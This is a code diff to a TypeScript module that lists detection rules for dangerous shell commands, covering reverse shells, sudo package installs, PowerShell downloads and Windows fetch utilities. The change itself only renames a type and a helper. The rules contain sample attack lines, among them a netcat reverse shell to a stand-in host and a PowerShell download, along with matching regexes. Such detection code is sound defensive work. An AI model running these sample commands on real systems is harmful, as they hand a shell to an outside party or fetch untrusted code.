@@ -1,14 +1,14 @@
 /** Commands that hand the machine over, take the person's keys or undo everything at once. */
-import { command, type Command } from './command.ts';
+import { command, type ShellCommand } from './command.ts';
 
 const fetch = command('fetch', true);
-const toldFetch = command('fetch');
+const reportedFetch = command('fetch');
 const secrets = command('secrets', true);
 const weaken = command('weaken');
 const destroy = command('destroy');
 const approval = command('approval');
 
-export const MACHINE_COMMANDS: readonly Command[] = [
+export const MACHINE_COMMANDS: readonly ShellCommand[] = [
   fetch(
     'a shell for somebody else',
     '/dev/tcp|/dev/udp|nc |ncat|netcat|socat',
@@ -16,21 +16,21 @@ export const MACHINE_COMMANDS: readonly Command[] = [
     'nc -e /bin/sh x.example 4444',
     'nc -z localhost 5432',
   ),
-  toldFetch(
+  reportedFetch(
     'packages as the administrator',
     'sudo',
     /\bsudo\s+(?:-\w{1,4}\s+)?(?:npm|pnpm|yarn|bun|pip[\d.]*|gem|cargo|go|npx|python[\d.]*\s+-m\s+pip)\s+(?:i|install|add|ci|get|exec)\b/i,
     'sudo npm install',
     'sudo apt-get install jq',
   ),
-  toldFetch(
+  reportedFetch(
     'PowerShell that downloads',
     'powershell|pwsh',
     /\b(?:powershell|pwsh)\b[^\n]{0,120}(?:https?:|download|invoke-|\biwr\b|\birm\b)/i,
     'powershell -c "iwr x.example/a -out a"',
     'powershell build.ps1',
   ),
-  toldFetch(
+  reportedFetch(
     'programs of Windows that fetch',
     'mshta|certutil|bitsadmin|regsvr32|rundll32',
     /\b(?:mshta|certutil|bitsadmin|regsvr32|rundll32)(?:\.exe)?\b[^\n]{0,80}https?:/i,
